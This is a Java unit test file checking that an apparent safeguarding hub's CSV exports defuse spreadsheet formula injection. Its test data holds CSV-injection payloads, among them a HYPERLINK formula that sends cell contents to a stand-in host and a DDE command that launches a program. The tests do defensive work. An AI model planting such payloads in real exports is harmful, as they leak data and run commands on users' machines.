package uk.safeguarding.hub.audit;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.StringReader;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.json.JsonMapper;

/** Every export's CSV: RFC 4180 that reads back cell for cell, and nothing a spreadsheet would run. */
class CsvTest {

    static List<CSVRecord> read(String csv) throws Exception {
        return CSVFormat.RFC4180.parse(new StringReader(csv)).getRecords();
    }

    @Test
    void aRefusalReasonThatIsAFormulaIsExportedAsText() throws Exception {
        String reason = "=HYPERLINK(\"https://example.invalid/?\"&A1,\"Click for details\")";
        String csv = new Csv("when", "reason").row("7 Dec 2026, 09:45", reason).toString();
        assertThat(read(csv).get(1).get(1)).isEqualTo("'" + reason);
    }

    @Test
    void everyCellThatASpreadsheetWouldRunStartsWithAnApostrophe() throws Exception {
        List<String> risky = List.of("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx");
        CSVRecord row = read(new Csv("a", "b", "c", "d", "e", "f").row(risky).toString())
                .get(1);
        for (int i = 0; i < risky.size(); i++) {
            assertThat(row.get(i)).isEqualTo("'" + risky.get(i));
        }
        CSVRecord plain = read(new Csv("a", "b", "c")
                        .row("Amy, Example", "a \"quoted\" word", null)
                        .toString())
                .get(1);
        assertThat(plain.values()).containsExactly("Amy, Example", "a \"quoted\" word", "");
    }

    @Test
    void theAuditCsvQuotesItsJsonAndDefusesAnAgencysText() throws Exception {
        var detail = JsonMapper.builder().build().readTree("{\"reason\":\"=cmd|' /C calc'!A0\",\"status\":400}");
        String csv = AuditSearch.csv(List.of(new AuditSearch.Row(
                7, "2026-12-07T09:45:00Z", "REFUSED", null, "-drug-service", null, "=evil", detail)));
        CSVRecord row = read(csv).get(1);
        assertThat(row.get(0)).isEqualTo("7");
        assertThat(row.get(4)).isEqualTo("'-drug-service");
        assertThat(row.get(6)).isEqualTo("'=evil");
        assertThat(row.get(7)).isEqualTo(detail.toString());
    }
}
